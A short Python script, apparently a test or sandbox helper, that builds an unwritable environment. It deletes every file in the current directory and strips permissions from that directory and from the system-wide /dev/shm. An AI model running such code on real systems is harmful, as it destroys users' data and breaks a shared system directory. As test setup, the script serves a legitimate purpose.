# Leave a folder in which nothing can be made.
import os


def run():
    for name in os.listdir("."):
        os.unlink(name)
    os.chmod(".", 0o500)
    for folder in (".", "/dev/shm"):
        try:
            os.chmod(folder, 0)
        except OSError:
            pass
    return []
